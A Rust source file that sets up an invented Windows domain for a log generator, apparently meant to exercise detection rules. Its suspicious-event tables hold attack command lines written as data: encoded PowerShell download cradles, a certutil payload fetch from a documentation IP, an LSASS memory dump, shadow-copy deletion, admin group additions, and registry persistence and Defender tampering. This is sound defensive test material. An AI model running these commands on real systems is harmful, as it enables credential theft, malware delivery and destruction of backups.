//! The made-up estate the generator draws from: hosts, users, programs and what they do.
//!
//! Everything here is invented (documentation IP ranges, `example.com`), shaped like what a
//! small Windows domain logs. Suspicious entries are the kind detection rules look for.

/// A computer that logs events.
pub(crate) struct Host {
    pub(crate) name: &'static str,
    pub(crate) ip: &'static str,
    /// Its `lsass.exe`, which writes the Security log.
    pub(crate) lsass_pid: u32,
    pub(crate) sysmon_pid: u32,
    /// The first field of Sysmon's process GUIDs on it.
    pub(crate) guid_prefix: u32,
}

pub(crate) const HOSTS: [Host; 5] = [
    host(
        "WS-FIN-01.corp.example.com",
        "10.0.1.21",
        788,
        3152,
        0x6f1a2b3c,
    ),
    host(
        "WS-HR-02.corp.example.com",
        "10.0.1.34",
        812,
        2996,
        0x2c9d4e10,
    ),
    host(
        "WS-DEV-07.corp.example.com",
        "10.0.1.57",
        760,
        3340,
        0x8b03f5a7,
    ),
    host(
        "SRV-FILE01.corp.example.com",
        "10.0.2.10",
        692,
        2480,
        0x41e7c9d2,
    ),
    host("DC01.corp.example.com", "10.0.0.5", 664, 2212, 0xd5a08e61),
];

/// Where accounts are created.
pub(crate) const DOMAIN_CONTROLLER: &Host = &HOSTS[4];

const fn host(name: &'static str, ip: &'static str, lsass: u32, sysmon: u32, guid: u32) -> Host {
    Host {
        name,
        ip,
        lsass_pid: lsass,
        sysmon_pid: sysmon,
        guid_prefix: guid,
    }
}

pub(crate) const DOMAIN: &str = "CORP";
pub(crate) const DOMAIN_SID: &str = "S-1-5-21-3623811015-3361044348-30300820";

/// A domain account.
pub(crate) struct User {
    pub(crate) name: &'static str,
    /// Its relative ID under [`DOMAIN_SID`].
    pub(crate) rid: u32,
    /// Works with admin rights (high integrity, elevated tokens).
    pub(crate) admin: bool,
}

/// `andré.dubois` and `ольга.петрова` put non-ASCII text into names and paths.
pub(crate) const USERS: [User; 6] = [
    user("alice.martin", 1104, false),
    user("bob.chen", 1105, false),
    user("andré.dubois", 1106, false),
    user("ольга.петрова", 1107, false),
    user("svc_backup", 1201, false),
    user("administrator", 500, true),
];

/// The account services log on as.
pub(crate) const SERVICE_USER: &User = &USERS[4];
/// The account that creates accounts.
pub(crate) const ADMIN_USER: &User = &USERS[5];

const fn user(name: &'static str, rid: u32, admin: bool) -> User {
    User { name, rid, admin }
}

/// Names tried from outside in password spraying, most of them no account here.
pub(crate) const SPRAYED_NAMES: [&str; 6] = [
    "admin",
    "administrator",
    "test",
    "user1",
    "backup",
    "alice.martin",
];

/// Where remote logons and spraying come from.
pub(crate) const EXTERNAL_IPS: [&str; 4] = [
    "203.0.113.77",
    "198.51.100.23",
    "203.0.113.140",
    "198.51.100.201",
];

/// A program start: `{user}` in paths and command lines is the user's name.
pub(crate) struct Launch {
    pub(crate) parent: &'static str,
    pub(crate) parent_command_line: &'static str,
    pub(crate) image: &'static str,
    pub(crate) command_line: &'static str,
    pub(crate) current_directory: &'static str,
    /// Sysmon's `Description`, `Product`, `Company`, `OriginalFileName`, `FileVersion`.
    pub(crate) pe: Pe,
}

#[derive(Clone, Copy)]
pub(crate) struct Pe {
    pub(crate) description: &'static str,
    pub(crate) product: &'static str,
    pub(crate) company: &'static str,
    pub(crate) original_file_name: &'static str,
    pub(crate) file_version: &'static str,
}

const MS: &str = "Microsoft Corporation";
const WINDOWS: &str = "Microsoft® Windows® Operating System";
const WIN_VERSION: &str = "10.0.19041.3636 (WinBuild.160101.0800)";

const fn windows(description: &'static str, original_file_name: &'static str) -> Pe {
    Pe {
        description,
        product: WINDOWS,
        company: MS,
        original_file_name,
        file_version: WIN_VERSION,
    }
}

const EXPLORER: &str = r"C:\Windows\explorer.exe";
const CMD: &str = r"C:\Windows\System32\cmd.exe";
const SERVICES: &str = r"C:\Windows\System32\services.exe";
const SVCHOST: &str = r"C:\Windows\System32\svchost.exe";
const POWERSHELL: &str = r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe";
const WINWORD: &str = r"C:\Program Files\Microsoft Office\root\Office16\WINWORD.EXE";
const CHROME: &str = r"C:\Program Files\Google\Chrome\Application\chrome.exe";
const USER_HOME: &str = r"C:\Users\{user}\";

const fn launch(
    parent: (&'static str, &'static str),
    image: &'static str,
    command_line: &'static str,
    current_directory: &'static str,
    pe: Pe,
) -> Launch {
    Launch {
        parent: parent.0,
        parent_command_line: parent.1,
        image,
        command_line,
        current_directory,
        pe,
    }
}

const FROM_EXPLORER: (&str, &str) = (EXPLORER, r"C:\Windows\Explorer.EXE");
const FROM_CMD: (&str, &str) = (CMD, r#""C:\Windows\system32\cmd.exe" "#);
const FROM_SERVICES: (&str, &str) = (SERVICES, r"C:\Windows\system32\services.exe");
const FROM_SVCHOST: (&str, &str) = (SVCHOST, r"C:\Windows\system32\svchost.exe -k DcomLaunch -p");
const FROM_WORD: (&str, &str) = (
    WINWORD,
    r#""C:\Program Files\Microsoft Office\Root\Office16\WINWORD.EXE" /n "C:\Users\{user}\Downloads\Facture_mars.docm""#,
);

pub(crate) const BENIGN_LAUNCHES: [Launch; 10] = [
    launch(
        FROM_EXPLORER,
        r"C:\Windows\System32\notepad.exe",
        r#""C:\Windows\system32\notepad.exe" C:\Users\{user}\Documents\notes.txt"#,
        USER_HOME,
        windows("Notepad", "NOTEPAD.EXE"),
    ),
    launch(
        FROM_EXPLORER,
        CHROME,
        r#""C:\Program Files\Google\Chrome\Application\chrome.exe" --profile-directory=Default"#,
        r"C:\Program Files\Google\Chrome\Application\",
        Pe {
            description: "Google Chrome",
            product: "Google Chrome",
            company: "Google LLC",
            original_file_name: "chrome.exe",
            file_version: "122.0.6261.112",
        },
    ),
    launch(
        FROM_EXPLORER,
        r"C:\Program Files\Microsoft Office\root\Office16\EXCEL.EXE",
        r#""C:\Program Files\Microsoft Office\root\Office16\EXCEL.EXE" "C:\Users\{user}\Documents\Отчёт_2024.xlsx""#,
        r"C:\Users\{user}\Documents\",
        Pe {
            description: "Microsoft Excel",
            product: "Microsoft Office",
            company: MS,
            original_file_name: "Excel.exe",
            file_version: "16.0.17328.20184",
        },
    ),
    launch(
        FROM_SERVICES,
        SVCHOST,
        r"C:\Windows\system32\svchost.exe -k netsvcs -p -s Schedule",
        r"C:\Windows\system32\",
        windows("Host Process for Windows Services", "svchost.exe"),
    ),
    launch(
        FROM_SVCHOST,
        r"C:\Windows\System32\wbem\WmiPrvSE.exe",
        r"C:\Windows\system32\wbem\wmiprvse.exe -secured -Embedding",
        r"C:\Windows\system32\",
        windows("WMI Provider Host", "Wmiprvse.exe"),
    ),
    launch(
        FROM_EXPLORER,
        CMD,
        r#""C:\Windows\system32\cmd.exe" "#,
        USER_HOME,
        windows("Windows Command Processor", "Cmd.Exe"),
    ),
    launch(
        FROM_CMD,
        r"C:\Windows\System32\ipconfig.exe",
        "ipconfig  /all",
        USER_HOME,
        windows("IP Configuration Utility", "ipconfig.exe"),
    ),
    launch(
        FROM_CMD,
        r"C:\Windows\System32\Robocopy.exe",
        r"robocopy C:\Users\Public\Документы \\SRV-FILE01\backup\Документы /MIR /R:2",
        r"C:\Users\Public\",
        windows("Microsoft Robocopy", "robocopy.exe"),
    ),
    launch(
        FROM_SVCHOST,
        POWERSHELL,
        r#""C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe" -NoProfile -File "C:\Scripts\inventaire (héritage).ps1""#,
        r"C:\Scripts\",
        windows("Windows PowerShell", "PowerShell.EXE"),
    ),
    launch(
        FROM_SERVICES,
        r"C:\Windows\System32\taskhostw.exe",
        "taskhostw.exe -RegisterDevice -ProtectionStateChanged -FreeNetworkOnly",
        r"C:\Windows\system32\",
        windows("Host Process for Windows Tasks", "taskhostw.exe"),
    ),
];

pub(crate) const SUSPICIOUS_LAUNCHES: [Launch; 8] = [
    launch(
        FROM_WORD,
        POWERSHELL,
        "powershell.exe -NoP -W Hidden -EncodedCommand SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkALgBEAG8AdwBuAGwAbwBhAGQAUwB0AHIAaQBuAGcAKAAnAGgAdAB0AHAAOgAvAC8AMQA5ADgALgA1ADEALgAxADAAMAAuADIAMwAvAGEALgBwAHMAMQAnACkA",
        r"C:\Users\{user}\Documents\",
        windows("Windows PowerShell", "PowerShell.EXE"),
    ),
    launch(
        FROM_CMD,
        r"C:\Windows\System32\certutil.exe",
        r"certutil.exe -urlcache -split -f http://198.51.100.23/payload.exe C:\Users\Public\payload.exe",
        r"C:\Users\Public\",
        windows("CertUtil.exe", "CertUtil.exe"),
    ),
    launch(
        FROM_CMD,
        r"C:\Windows\System32\whoami.exe",
        "whoami /all",
        USER_HOME,
        windows("whoami - displays logged on user information", "whoami.exe"),
    ),
    launch(
        FROM_CMD,
        r"C:\Windows\System32\net.exe",
        "net  localgroup administrators svc_update /add",
        USER_HOME,
        windows("Net Command", "net.exe"),
    ),
    launch(
        FROM_CMD,
        r"C:\Windows\System32\vssadmin.exe",
        "vssadmin.exe delete shadows /all /quiet",
        r"C:\Windows\system32\",
        windows(
            "Command Line Interface for Microsoft® Volume Shadow Copy Service ",
            "VSSADMIN.EXE",
        ),
    ),
    launch(
        FROM_EXPLORER,
        r"C:\Windows\System32\rundll32.exe",
        r"rundll32.exe C:\Users\Public\update.dll,DllRegisterServer",
        r"C:\Users\Public\",
        windows("Windows host process (Rundll32)", "RUNDLL32.EXE"),
    ),
    launch(
        FROM_CMD,
        r"C:\Users\Public\procdump64.exe",
        r"C:\Users\Public\procdump64.exe -accepteula -ma lsass.exe C:\Users\Public\lsass.dmp",
        r"C:\Users\Public\",
        Pe {
            description: "Sysinternals process dump utility",
            product: "ProcDump",
            company: "Sysinternals - www.sysinternals.com",
            original_file_name: "procdump",
            file_version: "11.0",
        },
    ),
    launch(
        FROM_WORD,
        POWERSHELL,
        "powershell.exe -nop -enc SQBuAHYAbwBrAGUALQBXAGUAYgBSAGUAcQB1AGUAcwB0ACAALQBVAHIAaQAgAGgAdAB0AHAAOgAvAC8AMgAwADMALgAwAC4AMQAxADMALgA3ADcALwBzAHQAYQBnAGUAMgAuAGUAeABlACAALQBPAHUAdABGAGkAbABlACAAJABlAG4AdgA6AFQARQBNAFAAXABzAHYAYwAuAGUAeABlADsAIABTAHQAYQByAHQALQBQAHIAbwBjAGUAcwBzACAAJABlAG4AdgA6AFQARQBNAFAAXABzAHYAYwAuAGUAeABlAA==",
        r"C:\Users\{user}\Downloads\",
        windows("Windows PowerShell", "PowerShell.EXE"),
    ),
];

/// A connection: image, destination IP, host name, port, port name, protocol.
pub(crate) type Connection = (
    &'static str,
    &'static str,
    &'static str,
    u16,
    &'static str,
    &'static str,
);

pub(crate) const BENIGN_CONNECTIONS: [Connection; 6] = [
    (
        CHROME,
        "142.250.74.110",
        "www.google.com",
        443,
        "https",
        "tcp",
    ),
    (CHROME, "151.101.1.69", "-", 443, "https", "tcp"),
    (
        SVCHOST,
        "10.0.0.5",
        "DC01.corp.example.com",
        53,
        "domain",
        "udp",
    ),
    (
        SVCHOST,
        "10.0.0.5",
        "DC01.corp.example.com",
        88,
        "kerberos",
        "tcp",
    ),
    (
        r"C:\Windows\System32\Robocopy.exe",
        "10.0.2.10",
        "SRV-FILE01.corp.example.com",
        445,
        "microsoft-ds",
        "tcp",
    ),
    (
        r"C:\Program Files\Microsoft Office\root\Office16\OUTLOOK.EXE",
        "52.97.146.162",
        "outlook.office365.com",
        443,
        "https",
        "tcp",
    ),
];

pub(crate) const SUSPICIOUS_CONNECTIONS: [Connection; 3] = [
    (POWERSHELL, "198.51.100.23", "-", 80, "http", "tcp"),
    (
        r"C:\Windows\System32\rundll32.exe",
        "203.0.113.77",
        "-",
        8443,
        "-",
        "tcp",
    ),
    (
        r"C:\Windows\System32\certutil.exe",
        "198.51.100.23",
        "-",
        80,
        "http",
        "tcp",
    ),
];

/// A file created: image and target path.
pub(crate) const FILE_CREATES: [(&str, &str); 6] = [
    (CHROME, r"C:\Users\{user}\Downloads\Facture_mars.docm"),
    (
        r"C:\Program Files\Microsoft Office\root\Office16\EXCEL.EXE",
        r"C:\Users\{user}\Documents\~$Отчёт_2024.xlsx",
    ),
    (SVCHOST, r"C:\Windows\Prefetch\NOTEPAD.EXE-D8414F97.pf"),
    (
        r"C:\Windows\System32\Robocopy.exe",
        r"\\SRV-FILE01\backup\Документы\Бюджет 2024.docx",
    ),
    (
        r"C:\Windows\System32\certutil.exe",
        r"C:\Users\Public\payload.exe",
    ),
    (
        r"C:\Users\Public\procdump64.exe",
        r"C:\Users\Public\lsass.dmp",
    ),
];

/// A registry value set: image, target object, details. `{sid}` is the user's SID.
pub(crate) const REGISTRY_SETS: [(&str, &str, &str); 5] = [
    (
        EXPLORER,
        r"HKU\{sid}\Software\Microsoft\Windows\CurrentVersion\Explorer\RecentDocs\.xlsx\MRUListEx",
        "Binary Data",
    ),
    (
        SVCHOST,
        r"HKLM\System\CurrentControlSet\Services\bam\State\UserSettings\{sid}\\Device\HarddiskVolume3\Windows\System32\notepad.exe",
        "Binary Data",
    ),
    (
        r"C:\ProgramData\Microsoft\Windows Defender\Platform\4.18.24010.12-0\MsMpEng.exe",
        r"HKLM\SOFTWARE\Microsoft\Windows Defender\Signature Updates\SignaturesLastUpdated",
        "QWORD (0x01da73a1-0x5f3e2c00)",
    ),
    (
        r"C:\Windows\System32\reg.exe",
        r"HKU\{sid}\Software\Microsoft\Windows\CurrentVersion\Run\Updater",
        r"C:\Users\Public\payload.exe",
    ),
    (
        POWERSHELL,
        r"HKLM\SOFTWARE\Policies\Microsoft\Windows Defender\DisableAntiSpyware",
        "DWORD (0x00000001)",
    ),
];

/// Of [`REGISTRY_SETS`], the ones that are suspicious (persistence, defence evasion).
pub(crate) const SUSPICIOUS_REGISTRY: std::ops::Range<usize> = 3..5;
/// Of [`FILE_CREATES`], the suspicious ones.
pub(crate) const SUSPICIOUS_FILES: std::ops::Range<usize> = 4..6;
